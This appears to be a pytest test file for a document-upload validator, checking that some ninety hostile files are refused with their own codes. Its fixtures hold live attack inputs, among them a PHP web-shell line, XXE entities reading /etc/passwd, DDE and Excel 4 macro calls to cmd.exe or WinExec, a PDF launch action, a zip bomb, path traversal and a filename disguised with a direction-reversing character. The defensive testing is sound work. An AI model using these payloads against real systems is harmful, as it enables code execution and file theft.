"""The hostile files: each refused with its own stable code, within limits, nothing left."""

import contextlib
import io

import pikepdf
import pytest

from evalhub.infra.uploads import DOCUMENTS, UploadRefused, clean_name, receive
from tests.integration.infra import hostile as h
from tests.integration.infra.hostile import png_picture

pytestmark = pytest.mark.usefixtures("nothing_left")

MIB = 2**20
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
XLM = "application/vnd.ms-excel.macrosheet+xml"
MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
BOOK_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SHEET_1 = 'name="明细" sheetId="1"'

HOSTILE = {
    "exe under a pdf name": ("a.pdf", lambda: b"MZ\x90\0" + bytes(500), "F-05"),
    "html under a docx name": ("a.docx", lambda: b"<!doctype html><script>alert(1)</script>", "F-05"),
    "svg under an xlsx name": ("a.xlsx", lambda: b"<svg onload='alert(1)'/>", "F-05"),
    "php under a pdf name": ("a.pdf", lambda: b"<?php system($_GET[0]); ?>", "F-05"),
    "docm as docx": ("a.docx", lambda: h.changed(h.word_file(), h.TYPES, WORD_MAIN, MACRO_WORD), "F-30"),
    "xlsm as xlsx": ("a.xlsx", lambda: h.changed(h.excel_file(), h.TYPES, BOOK_MAIN, MACRO_BOOK), "F-30"),
    "docx as xlsx": ("a.xlsx", h.word_file, "F-05"),
    "xlsx as docx": ("a.docx", h.excel_file, "F-05"),
    "pdf with a zip behind": ("a.pdf", lambda: h.pdf_file() + h.word_file(), "F-07"),
    "pdf that is also html": (
        "a.pdf",
        lambda: h.pdf_file().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
        "F-07",
    ),
    "junk before a pdf": ("a.pdf", lambda: b"junk\n" + h.pdf_file(), "F-07"),
    "junk before a docx": ("a.docx", lambda: b"junk\n" + h.word_file(), "F-07"),
    "docx.exe": ("报告.docx.exe", h.word_file, "F-04"),
    "no ending": ("报告", h.word_file, "F-04"),
    "old Word file": ("a.doc", lambda: OLE, "F-04"),
    "old Word file as docx": ("a.docx", lambda: OLE, "F-05"),
    "zip that is no document": ("a.docx", lambda: h.zip_of([("a.txt", b"x")]), "F-05"),
    "packed more than 50 times": ("a.docx", h.bomb, "F-19"),
    "entry larger than stated": ("a.docx", h.lying_size, "F-13"),
    "nested archives": ("a.docx", h.nested_zip, "F-20"),
    "overlapping entries": ("a.docx", lambda: h.raw_zip(times=2), "F-12"),
    "archive inside itself": ("a.docx", h.self_containing, "F-12"),
    "100,000 entries": ("a.docx", h.many_entries, "F-18"),
    "one name twice": ("a.docx", lambda: h.with_entry("word/document.xml"), "F-11"),
    "one name twice but for case": ("a.docx", lambda: h.with_entry("word/DOCUMENT.xml"), "F-11"),
    "headers that disagree": ("a.docx", lambda: h.raw_zip(local_name=b"b.xml"), "F-13"),
    "data behind the archive": ("a.docx", lambda: h.word_file() + b"more", "F-14"),
    "data between the entries": ("a.docx", lambda: h.raw_zip(gap=b"hidden"), "F-14"),
    "symbolic link": ("a.docx", h.with_symlink, "F-16"),
    "absolute path": ("a.docx", lambda: h.with_entry("/etc/cron.d/x"), "F-15"),
    "path upwards": ("a.docx", lambda: h.with_entry("word/../../x.xml"), "F-15"),
    "path with backslash": ("a.docx", lambda: h.with_entry("word\\x.xml"), "F-15"),
    "encrypted entry": ("a.docx", h.encrypted_entry, "F-17"),
    "cut archive": ("a.docx", lambda: h.word_file()[:-30], "F-10"),
    "billion laughs": ("a.docx", h.billion_laughs, "F-26"),
    "quadratic entity": ("a.docx", h.quadratic_entity, "F-26"),
    "entity of a file": ("a.docx", lambda: h.with_doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]', "&x;"), "F-26"),
    "entity of an address": (
        "a.docx",
        lambda: h.with_doctype('[<!ENTITY x SYSTEM "http://10.0.0.1/x">]', "&x;"),
        "F-26",
    ),
    "external document type": ("a.docx", lambda: h.with_doctype('SYSTEM "http://10.0.0.1/x.dtd"'), "F-26"),
    "100,000 levels": ("a.docx", h.deep_xml, "F-27"),
    "broken xml": ("a.docx", lambda: h.in_body("<w:p>"), "F-25"),
    "macro project": ("a.docx", lambda: h.added(h.word_file(), "word/vbaProject.bin", OLE), "F-30"),
    "macro project, renamed": (
        "a.docx",
        lambda: h.added(h.word_file(), "word/media/a.png", OLE, "application/vnd.ms-office.vbaProject"),
        "F-30",
    ),
    "Excel 4 macro sheet": ("a.xlsx", lambda: h.added(h.excel_file(), "xl/worksheets/m.xml", b"<m/>", XLM), "F-31"),
    "Auto_Open": (
        "a.xlsx",
        lambda: h.changed(
            h.excel_file(),
            "xl/workbook.xml",
            "</sheets>",
            '</sheets><definedNames><definedName name="Auto_Open">A1</definedName></definedNames>',
        ),
        "F-31",
    ),
    "Excel 4 call": ("a.xlsx", lambda: h.with_formula('CALL("Kernel32","WinExec")'), "F-31"),
    "DDE field": ("a.docx", lambda: h.with_field('DDEAUTO c:\\cmd.exe "/k calc"'), "F-34"),
    "DDE field in pieces": ("a.docx", lambda: h.with_field("DD", "EAU", 'TO c:\\cmd.exe "/k calc"'), "F-34"),
    "DDE simple field": ("a.docx", lambda: h.in_body('<w:p><w:fldSimple w:instr=" dde cmd x"/></w:p>'), "F-34"),
    "DDE formula": ("a.xlsx", lambda: h.with_formula("cmd|&apos;/C calc&apos;!A0"), "F-34"),
    "remote template": (
        "a.docx",
        lambda: h.related(h.word_file(), h.WORD_RELATIONS, "attachedTemplate", "http://10.0.0.1/t.dotm", "External"),
        "F-35",
    ),
    "remote picture": (
        "a.docx",
        lambda: h.related(h.word_file(), h.WORD_RELATIONS, "image", "http://10.0.0.1/p.png", "External"),
        "F-35",
    ),
    "remote picture field": ("a.docx", lambda: h.with_field('INCLUDEPICTURE "http://10.0.0.1/p.png" \\d'), "F-35"),
    "OLE object": ("a.docx", lambda: h.added(h.word_file(), "word/embeddings/oleObject1.bin", OLE), "F-32"),
    "program as a picture": ("a.docx", lambda: h.added(h.word_file(), "word/media/a.png", b"MZ" + bytes(99)), "F-32"),
    "html chunk": ("a.docx", lambda: h.in_body('<w:altChunk r:id="rId1"/>'), "F-32"),
    "ActiveX control": ("a.docx", lambda: h.added(h.word_file(), "word/activeX/activeX1.xml", b"<a/>"), "F-33"),
    "external workbook": (
        "a.xlsx",
        lambda: h.added(h.excel_file(), "xl/externalLinks/externalLink1.xml", b"<a/>"),
        "F-35",
    ),
    "formula from the network": ("a.xlsx", lambda: h.with_formula('WEBSERVICE("http://10.0.0.1")'), "F-35"),
    "javascript link": (
        "a.docx",
        lambda: h.related(h.word_file(), h.WORD_RELATIONS, "hyperlink", "javascript:alert(1)", "External"),
        "F-36",
    ),
    "link to a share": (
        "a.docx",
        lambda: h.related(h.word_file(), h.WORD_RELATIONS, "hyperlink", "\\\\10.0.0.1\\x", "External"),
        "F-36",
    ),
    "hidden sheet": (
        "a.xlsx",
        lambda: h.changed(h.excel_file(), "xl/workbook.xml", SHEET_1, SHEET_1 + ' state="veryHidden"'),
        "F-37",
    ),
    "hidden sheet behind a shown one": (
        "a.xlsx",
        lambda: h.changed(
            h.excel_file(),
            "xl/workbook.xml",
            SHEET_1,
            SHEET_1 + ' state="hidden" xmlns:q="urn:q" q:state="visible"',
        ),
        "F-37",
    ),
    "custom data": (
        "a.docx",
        lambda: h.added(h.word_file(), "customXml/item2.xml", b"<c xmlns='urn:own'>canary</c>"),
        "F-38",
    ),
    "pdf script": ("a.pdf", lambda: h.pdf_file(h.pdf_action("/JavaScript", JS="app.alert(1)")), "F-40"),
    "pdf script of a page": ("a.pdf", lambda: h.pdf_file(h.add_page_script), "F-41"),
    "pdf opening action": ("a.pdf", lambda: h.pdf_file(h.pdf_action("/GoToR", F="x.pdf")), "F-41"),
    "pdf launch": ("a.pdf", lambda: h.pdf_file(h.pdf_action("/Launch", F="calc.exe")), "F-42"),
    "pdf attachment": ("a.pdf", lambda: h.pdf_file(h.attach), "F-43"),
    "pdf form program": ("a.pdf", lambda: h.pdf_file(h.add_xfa), "F-44"),
    "pdf film": ("a.pdf", lambda: h.pdf_file(h.add_movie), "F-45"),
    "pdf javascript link": ("a.pdf", lambda: h.pdf_file(h.pdf_link("javascript:alert(1)")), "F-36"),
    "pdf password": ("a.pdf", lambda: h.pdf_file(encryption=pikepdf.Encryption(owner="a", user="b", R=6)), "F-17"),
    "pdf owner password": ("a.pdf", lambda: h.pdf_file(encryption=pikepdf.Encryption(owner="a", user="", R=6)), "F-17"),
    "pdf image of a million pixels squared": ("a.pdf", lambda: h.pdf_file(h.add_huge_image), "F-51"),
    "pdf looping references": ("a.pdf", h.looping_xref, "F-46"),
    "pdf cut": ("a.pdf", lambda: h.pdf_file()[:-60], "F-46"),
    "png of 40 gigapixels": ("a.png", lambda: h.png_file(200_000, 200_000), "F-51"),
    "png with data behind": ("a.png", lambda: h.png_file() + b"PK", "F-07"),
    "png cut": ("a.png", lambda: h.png_file()[:-3], "F-50"),
    "jpeg of 4 gigapixels": ("a.jpg", lambda: h.jpeg_file(65_000, 65_000), "F-51"),
    "jpeg with a zip behind": ("a.jpg", lambda: h.jpeg_file() + h.word_file(), "F-07"),
    "html as jpeg": ("a.jpg", lambda: b"<script>", "F-05"),
    "no bytes": ("a.docx", lambda: b"", "F-01"),
    "2.6 million cells": ("a.xlsx", h.huge_sheet, "F-21"),
    "NUL in the name": ("a.pdf\0.docx", h.word_file, "F-03"),
    "name that turns its direction": ("报告\u202excod.exe.docx", h.word_file, "F-03"),
    "name with a trailing dot": ("报告.docx.", h.word_file, "F-04"),
    "name of nothing but dots": ("...", h.word_file, "F-03"),
}


def refusal_of(source, name, **options) -> str:
    with pytest.raises(UploadRefused) as raised, receive(source, name, **({"limit_bytes": 200 * MIB} | options)):
        pass
    return raised.value.code


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_file_is_refused_with_its_code(case):
    name, build, code = HOSTILE[case]

    assert refusal_of(io.BytesIO(build()), name) == code


def test_chart_table_with_a_macro_is_refused():
    table = h.added(h.excel_file(), "xl/vbaProject.bin", OLE)

    assert refusal_of(io.BytesIO(h.added(h.word_file(), "word/embeddings/S.xlsx", table)), "a.docx") == "F-30"


def test_picture_where_only_documents_are_wanted_is_refused():
    assert refusal_of(png_picture(), "a.png", kinds=DOCUMENTS) == "F-04"


def test_file_of_exactly_the_limit_passes_and_one_byte_more_is_refused():
    content = h.word_file()

    with receive(io.BytesIO(content), "a.docx", limit_bytes=len(content)) as upload:
        assert upload.size_bytes == len(content)
    assert refusal_of(io.BytesIO(content), "a.docx", limit_bytes=len(content) - 1) == "F-02"


class Endless(io.RawIOBase):
    """A body without end, `step` bytes at a time; counts what was taken."""

    def __init__(self, step: int | None = None):
        self.step, self.taken = step, 0

    def read(self, size=-1):
        size = self.step or size
        self.taken += size
        return b"P" * size


def test_body_stated_too_large_is_refused_before_its_first_byte():
    body = Endless()

    assert refusal_of(body, "a.docx", limit_bytes=MIB, stated_bytes=MIB + 1) == "F-02"
    assert body.taken == 0


def test_body_longer_than_stated_is_refused_at_the_limit():
    body = Endless()

    assert refusal_of(body, "a.docx", limit_bytes=3 * MIB, stated_bytes=100) == "F-02"
    assert body.taken == 3 * MIB + 1


def test_body_of_one_byte_a_second_is_refused_after_a_minute():
    body = Endless(step=1)

    assert refusal_of(body, "a.docx", clock=lambda: float(body.taken)) == "F-06"
    assert body.taken == 61


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("C:\\Users\\刘芸\\报告.docx", "报告.docx"),
        ("../../etc/报告.docx", "报告.docx"),
        ("CON.docx", "_CON.docx"),
        ("com1.docx", "_com1.docx"),
        ("长" * 300 + ".docx", "长" * 115 + ".docx"),
        ("𠮷㛃豈.pdf", "𠮷㛃豈.pdf"),
        (" 报告 (终稿).docx ", "报告 (终稿).docx"),
    ],
)
def test_name_is_cleaned_for_people(sent, shown):
    assert clean_name(sent) == shown


def test_file_is_closed_even_when_its_reader_fails():
    with contextlib.suppress(KeyError), receive(png_picture(), "a.png", limit_bytes=MIB) as upload:
        raise KeyError
    assert upload.file.closed
